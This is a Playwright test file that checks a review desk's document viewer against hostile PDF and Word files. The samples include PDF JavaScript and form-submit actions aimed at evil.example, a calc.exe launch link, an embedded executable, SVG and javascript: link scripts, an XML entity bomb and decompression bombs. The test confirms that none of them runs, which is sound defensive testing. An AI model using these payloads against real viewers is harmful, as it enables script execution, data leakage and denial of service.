/** Documents of strangers at the desk: each is shown or answered by a clear sentence, whatever it is, and the desk lives on. */
import type { APIRequestContext, Page } from '@playwright/test';
import encrypted from '../api/encryptedPdfs.json' with { type: 'json' };
import {
  container,
  contentTypes,
  docx,
  officeNamespace as office,
  paragraph,
  pdf,
  samples,
  stream,
  wordNamespace,
  zip,
} from '../api/documentSamples.ts';
import { applicant, pdfWarning, signInAtDesk } from './deskMember.ts';
import { expect, test } from './fixtures.ts';

/** A PDF of pages with one line each, and whatever else the catalogue, the pages and the document have. */
function pages(count: number, { catalogue = '', onPage = '', line = 'BT /F1 24 Tf 72 720 Td (Water bill) Tj ET', more = {} } = {}): Buffer {
  const numbers = Array.from({ length: count }, (_, index) => 10 + index);
  return pdf({
    1: `<</Type/Catalog/Pages 2 0 R${catalogue}>>`,
    2: `<</Type/Pages/Count ${count}/Kids[${numbers.map((number) => `${number} 0 R`).join(' ')}]>>`,
    4: stream('', line),
    5: '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...Object.fromEntries(
      numbers.map((number) => [
        number,
        `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>${onPage}>>`,
      ]),
    ),
    ...more,
  });
}

const script = '<</S/JavaScript/JS(this.getURL\\("https://evil.example"\\); app.alert\\(1\\))>>';
const drawing =
  '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:embed="r9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';
const entities = Array.from({ length: 9 }, (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`).join('');

/** A file of a stranger, made when it is fetched, since some take seconds. Seen is a text of the document, or of the sentence that says why it is not shown. */
type Stranger = readonly [title: string, extension: 'pdf' | 'docx', content: () => Buffer, seen: RegExp];

const files: readonly Stranger[] = [
  ['a script that runs at the opening', 'pdf', () => pages(1, { catalogue: `/OpenAction${script}` }), /Water bill/u],
  ['a script on the page', 'pdf', () => pages(1, { onPage: `/AA<</O${script}>>` }), /Water bill/u],
  [
    'a link to a program',
    'pdf',
    () => pages(1, { onPage: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/Launch/F(calc.exe)>>>>]' }),
    /Water bill/u,
  ],
  [
    'a form that sends itself',
    'pdf',
    () => pages(1, { catalogue: '/AcroForm<</XFA(<xdp/>)/Fields[]>>/OpenAction<</S/SubmitForm/F(https://evil.example)>>' }),
    /Water bill/u,
  ],
  ['2,000 pages', 'pdf', () => pages(2_000), /Water bill/u],
  [
    'a number of pages that is a lie',
    'pdf',
    () => Buffer.from(pages(1).toString('latin1').replace('/Count 1/', '/Count 2147483647/'), 'latin1'),
    /Water bill|damaged|too long/u,
  ],
  ['a password', 'pdf', () => Buffer.from(encrypted['locked, AES 256, plain'], 'base64'), /locked with a password/u],
  ['encryption without a password', 'pdf', () => Buffer.from(encrypted['harmless, AES 256, plain'], 'base64'), /1 \/ 1/u],
  ['half of it missing', 'pdf', () => pages(1).subarray(0, 90), /damaged/u],
  ['noise instead of a PDF', 'pdf', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(50_000, 7)]), /damaged/u],
  [
    'a page as large as a country',
    'pdf',
    () => Buffer.from(pages(1).toString('latin1').replace('[0 0 595 842]', '[0 0 9e9 9e9]'), 'latin1'),
    /1 \/ 1|damaged/u,
  ],
  [
    'a picture that claims a thousand million pixels',
    'pdf',
    () =>
      pages(1, {
        line: 'q 595 0 0 842 0 0 cm /X Do Q BT /F1 24 Tf 72 720 Td (Water bill) Tj ET',
        more: { 6: stream('/Type/XObject/Subtype/Image/Width 40000/Height 40000/BitsPerComponent 8/ColorSpace/DeviceRGB', 'x') },
      }),
    /Water bill/u,
  ],
  [
    'a drawing that draws itself',
    'pdf',
    () =>
      pages(1, {
        line: 'BT /F1 24 Tf 72 720 Td (Water bill) Tj ET /X Do',
        more: { 6: stream('/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>', '/X Do /X Do') },
      }),
    /Water bill|damaged|too long/u,
  ],
  [
    'a stream that inflates to 300 MB',
    'pdf',
    () => pages(1, { line: `BT /F1 24 Tf 72 720 Td (Water bill) Tj ET${' '.repeat(300_000_000)}` }),
    /Water bill|damaged|too long/u,
  ],
  [
    'pages that are their own parents',
    'pdf',
    () => pages(1, { more: { 2: '<</Type/Pages/Count 9/Kids[2 0 R 10 0 R]>>' } }),
    /Water bill|damaged|too long/u,
  ],
  [
    'a table of places that is nowhere',
    'pdf',
    () =>
      Buffer.from(
        pages(1)
          .toString('latin1')
          .replace(/startxref\s+\d+/u, 'startxref\n0'),
        'latin1',
      ),
    /Water bill/u,
  ],
  [
    'a font of noise',
    'pdf',
    () =>
      pages(1, {
        more: {
          5: '<</Type/Font/Subtype/Type1/BaseFont/Odd/FontDescriptor 7 0 R>>',
          7: '<</Type/FontDescriptor/FontName/Odd/Flags 4/FontFile 8 0 R>>',
          8: stream('/Length1 500/Length2 500/Length3 0', '\u0007'.repeat(1_000)),
        },
      }),
    /1 \/ 1/u,
  ],
  [
    'a hundred thousand notes on a page',
    'pdf',
    () => pages(1, { onPage: `/Annots[${'<</Type/Annot/Subtype/Square/Rect[0 0 9 9]>>'.repeat(100_000)}]` }),
    /Water bill|too long/u,
  ],
  [
    'a program inside',
    'pdf',
    () => pages(1, { catalogue: '/Names<</EmbeddedFiles<</Names[(run.exe)<</Type/Filespec/F(run.exe)/EF<</F 4 0 R>>>>]>>>>' }),
    /Water bill/u,
  ],
  [
    'a picture from elsewhere',
    'docx',
    () =>
      docx(
        paragraph('Water bill') + drawing,
        `<Relationship Id="r9" Type="${office}/relationships/image" Target="https://evil.example/x.png" TargetMode="External"/>`,
      ),
    /Water bill|damaged/u,
  ],
  [
    'a picture that is a script',
    'docx',
    () =>
      docx(paragraph('Water bill') + drawing, `<Relationship Id="r9" Type="${office}/relationships/image" Target="media/x.svg"/>`, {
        'word/media/x.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
      }),
    /Water bill/u,
  ],
  [
    'tables in tables, 1,000 deep',
    'docx',
    () => docx(`${'<w:tbl><w:tr><w:tc>'.repeat(1_000)}${paragraph('Water bill')}${'</w:tc></w:tr></w:tbl>'.repeat(1_000)}`),
    /Water bill|damaged|too long/u,
  ],
  ['fifty thousand paragraphs', 'docx', () => docx(paragraph('Water bill').repeat(50_000)), /too long/u],
  ['words of a Word file', 'docx', () => docx(paragraph('Water bill')), /Water bill/u],
  [
    'HTML and a script as words',
    'docx',
    () => docx(paragraph('Water bill &lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;')),
    /Water bill <script>/u,
  ],
  [
    'a link that is a script',
    'docx',
    () =>
      docx(
        `<w:p><w:hyperlink r:id="r9"><w:r><w:t>Water bill</w:t></w:r></w:hyperlink></w:p>`,
        `<Relationship Id="r9" Type="${office}/relationships/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>`,
      ),
    /Water bill/u,
  ],
  [
    'entities that grow without end',
    'docx',
    () =>
      zip({
        '[Content_Types].xml': contentTypes,
        'word/document.xml': `<!DOCTYPE d [<!ENTITY e0 "boom">${entities}]><w:document xmlns:w="${wordNamespace}"><w:body>${paragraph('&e9;')}</w:body></w:document>`,
      }),
    /damaged|too long/u,
  ],
  [
    'an archive that inflates to 300 MB',
    'docx',
    () => docx(paragraph('Water bill'), '', { 'word/styles.xml': Buffer.alloc(300_000_000, 32) }),
    /Water bill|damaged|too long/u,
  ],
  ['an archive without a document', 'docx', () => zip({ 'a.txt': 'x' }), /damaged/u],
  ['another container', 'docx', () => container({ EncryptedPackage: 'x' }), /damaged/u],
];

/** An applicant's case at the desk with these files, which open by their numbers. */
async function caseWith(page: Page, request: APIRequestContext, strangers: readonly Stranger[]): Promise<(index: number) => Promise<void>> {
  await signInAtDesk(page);
  const proof = { name: 'bill.pdf', mimeType: 'application/pdf', buffer: samples.pdf.content };
  const { id } = await applicant(request, `Hake & Daughters ${Date.now()}`, { 'business.proofAddress1': proof });
  await page.route(/\/documents\/\d+\/content\?view=true$/u, (route) => {
    const index = Number(/documents\/(\d+)/u.exec(route.request().url())![1]);
    return route.fulfill({ body: strangers[index]![2](), contentType: 'application/octet-stream' });
  });
  await page.route(`**/desk/api/accounts/${id}`, async (route) => {
    const answer = await route.fetch();
    const account = (await answer.json()) as { files: object[] };
    const [file] = account.files;
    const shown = strangers.map(([, extension], index) => ({ ...file, id: index, fileName: `bill ${index}.${extension}` }));
    await route.fulfill({ response: answer, json: { ...account, files: shown } });
  });
  // Below the list of them all: a browser draws no frame that is out of view.
  await page.setViewportSize({ width: 1280, height: 2_000 });
  await page.goto(`/desk/accounts/${id}`);
  return (index) => page.getByRole('button', { name: `Show bill ${index}.${strangers[index]![1]}`, exact: true }).click();
}

/** Documents of two pages, with words on the second alone. */
const twoPages: readonly Stranger[] = [
  [
    'PDF',
    'pdf',
    () =>
      pages(2, {
        more: {
          11: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 6 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
          6: stream('', 'BT /F1 24 Tf 72 720 Td (The gas ) Tj (meter) Tj ET'),
        },
      }),
    /./u,
  ],
  [
    'Word file',
    'docx',
    () =>
      docx(
        paragraph('Water bill').repeat(40) +
          '<w:p><w:r><w:t xml:space="preserve">The gas </w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>meter</w:t></w:r></w:p>',
      ),
    /./u,
  ],
];

test('a PDF and a Word file are read by pages, searched, turned and made larger', async ({ page, request, problems }) => {
  problems.expect(pdfWarning);
  const open = await caseWith(page, request, twoPages);
  for (const [index, [kind]] of twoPages.entries())
    await test.step(kind, async () => {
      await open(index);
      const frame = page.frameLocator('iframe');
      await expect(page.getByText('1 / 2', { exact: true })).toBeVisible();
      await expect(frame.getByText('Water bill').first()).toBeInViewport();
      await page.getByRole('searchbox', { name: 'Search the document' }).fill('gás METER');
      await page.keyboard.press('Enter');
      await expect(page.getByText('On 1 page', { exact: true })).toBeVisible();
      await expect(page.getByText('2 / 2', { exact: true })).toBeVisible();
      const hit = frame.locator('.mark', { hasText: 'meter' });
      await expect(hit).toBeInViewport();
      await expect(frame.locator('.mark', { hasText: 'Water' })).toHaveCount(0);
      const upright = (await hit.boundingBox())!;
      await page.getByRole('button', { name: 'Turn' }).click();
      await expect
        .poll(async () => {
          const box = await hit.boundingBox();
          return box !== null && box.height > box.width;
        })
        .toBe(true);
      for (let turn = 1; turn < 4; turn += 1) await page.getByRole('button', { name: 'Turn' }).click();
      await page.getByRole('button', { name: 'Larger' }).click();
      await expect.poll(async () => (await hit.boundingBox())?.width).toBeGreaterThan(upright.width * 1.4);
      await expect(hit).toBeInViewport();
      await page.getByRole('button', { name: 'Page before' }).click();
      await expect(frame.getByText('Water bill').first()).toBeInViewport();
      // Turned and larger, a page has its words where nobody would look for them.
      await page.getByRole('button', { name: 'Turn' }).click();
      await page.getByRole('button', { name: 'Larger' }).click();
      const areSeen = (texts: readonly Element[]) =>
        texts
          .map((text) => text.getBoundingClientRect())
          .some(({ left, right, top }) => right > 0 && left < innerWidth && top < innerHeight);
      await expect.poll(() => frame.getByText('Water bill').evaluateAll(areSeen)).toBe(true);
    });
});

for (const extension of ['pdf', 'docx'] as const) {
  const some = files.filter((file) => file[1] === extension);
  test(
    `hostile documents, .${extension}, are each shown or answered by a sentence, run nothing, and leave the desk alive`,
    { tag: '@extended' },
    async ({ page, request, problems }) => {
      test.setTimeout(240_000);
      problems.expect(pdfWarning);
      const strangers: string[] = [];
      page.on('request', (sent) => void (sent.url().includes('evil.example') && strangers.push(sent.url())));
      page.on('dialog', (dialog) => void (strangers.push(dialog.message()), dialog.dismiss()));
      const open = await caseWith(page, request, some);
      for (const [index, [title, , , expected]] of some.entries()) {
        await test.step(title, async () => {
          await open(index);
          const drawn = () =>
            page
              .frameLocator('iframe')
              .locator('body')
              .allInnerTexts()
              .catch(() => []);
          const seen = async () => [...(await drawn()), await page.getByRole('main').innerText()];
          await expect.poll(async () => expected.test((await seen()).join(' ')), { timeout: 60_000 }).toBe(true);
          await page.getByRole('button', { name: 'Close', exact: true }).click();
          await expect(page.getByRole('button', { name: 'Approve' })).toBeEnabled();
        });
      }
      expect(strangers).toEqual([]);
    },
  );
}
